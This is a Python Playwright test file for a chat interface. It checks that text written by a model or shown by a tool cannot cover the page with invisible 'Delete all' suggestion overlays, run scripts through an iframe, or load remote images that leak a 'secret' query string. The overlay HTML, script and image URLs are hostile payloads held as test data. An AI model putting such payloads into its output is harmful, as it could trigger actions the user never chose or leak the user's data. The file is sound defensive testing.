"""Text of a model or a tool may not cover the page, run, or load anything: three attacks that once worked."""

import pytest
from playwright.sync_api import expect

import ellmer_core as ec
from ellmer_conformance.scenarios.script import Answer, Call, Say

OVERLAY = "position:fixed;inset:0;opacity:0;z-index:9999"
LAYERS = {
    "an attribute beside the class": f'<span class="suggestion submit" style="{OVERLAY}">Delete all</span>',
    "a tag that is for the model": f'<content class="suggestion submit" style="{OVERLAY}">Delete all</content>',
    "an address that is a tag": f'<p>\n<https:/class=suggestion/style="{OVERLAY}">Delete all',
    "an address in a footnote": f"See[^1].\n\n[^1]: <p>\n<https:/class=suggestion/style={OVERLAY}>Delete all",
    "a class that is not listed": '<span class="suggestion position-fixed top-0 start-0 w-100 h-100">Delete all</span>',
}
SCRIPT = '<iframe srcdoc="<script>parent.document.title = `run`</script>"></iframe>'


@pytest.mark.parametrize("text", LAYERS.values(), ids=LAYERS)
def test_what_a_model_writes_covers_nothing(talk, text):
    it = talk([Answer((Say(f"Here.\n\n{text}\n\nThe end."),)), Answer((Say("Deleted."),))])
    it.ask("Hi")
    it.page.mouse.click(20, 450)
    it.reload("The end.")
    it.page.mouse.click(20, 450)

    expect(it.log).not_to_contain_text("Deleted.")
    assert [t.text for t in it.chat.get_turns() if t.role == "user"] == ["Hi"]


def test_a_suggestion_is_still_one(talk):
    text = 'Say <span class="suggestion submit">Hello</span>.'
    it = talk([Answer((Say(text),)), Answer((Say("Fine."),))])
    it.ask("Hi")
    it.page.get_by_role("button", name="Use chat suggestion: Hello").click()

    expect(it.log).to_contain_text("Fine.")


DISPLAYS = {
    "markdown": ec.ContentToolResult(1, extra={"display": {"markdown": SCRIPT, "open": True}}),
    "text": ec.ContentToolResult(1, extra={"display": {"text": SCRIPT, "open": True}}),
    "code": ec.ContentToolResult(f"{'`' * 8}\n{SCRIPT}\n", extra={"display": {"open": True}}),
    "error": ec.ContentToolResult(error=f"{'`' * 8}\n{SCRIPT}\n", extra={"display": {"open": True}}),
    "title": ec.ContentToolResult(1, extra={"display": {"title": SCRIPT, "label": SCRIPT}}),
}


@pytest.mark.parametrize("shown", DISPLAYS.values(), ids=DISPLAYS)
def test_what_a_tool_displays_does_not_run(talk, shown):
    tool = ec.tool(lambda: shown, name="show", description="Shows.", arguments={})
    it = talk([Answer((Say("I look."), Call("show", {}))), Answer((Say("The end."),))], tool)
    it.ask("Hi")
    for _ in ("live", "again"):
        expect(it.log.get_by_text("parent.document.title").last).to_be_attached()
        assert it.page.locator("iframe").count() == 0
        assert it.page.title() == "Talk"
        it.reload("The end.")


IMAGES = {
    "inline": "![A cat](https://example.invalid/cat.png?q=secret)",
    "by reference": "![A cat][1]\n\n[1]: https://example.invalid/cat.png?q=secret",
    "in a link": "[![A cat](https://example.invalid/cat.png?q=secret)](https://example.com)",
}


@pytest.mark.parametrize("text", IMAGES.values(), ids=IMAGES)
def test_an_image_from_elsewhere_is_not_loaded_by_itself(talk, text):
    it = talk([Answer((Say(f"{text}\n\nThe end."),))])
    asked = []
    it.page.on("request", lambda request: asked.append(request.url))
    it.ask("Hi")
    it.reload("The end.")

    assert not [url for url in asked if "example.invalid" in url]
    expect(it.log.get_by_role("link", name="A cat")).to_be_visible()


def test_an_image_of_a_host_that_is_allowed_is_loaded_on_a_click(talk):
    it = talk([Answer((Say(f"{IMAGES['inline']} The end."),))], image_hosts=["https://example.invalid"])
    asked = []
    it.page.route("https://example.invalid/**", lambda route: (asked.append(1), route.abort())[1])
    it.ask("Hi")
    assert not asked
    it.log.get_by_role("link", name="A cat").click()

    expect(it.log.get_by_role("img", name="A cat")).to_be_attached()
    it.page.wait_for_function("() => document.querySelector('ellmer-image img').complete")
    assert asked


def test_a_policy_says_what_the_page_may_load(talk):
    it = talk([])
    violations = it.page.evaluate("""() => new Promise(resolve => {
        document.addEventListener("securitypolicyviolation", event => resolve(event.effectiveDirective));
        const image = document.createElement("img");
        image.src = "https://example.invalid/cat.png";
        document.body.append(image);
    })""")

    assert violations == "img-src"
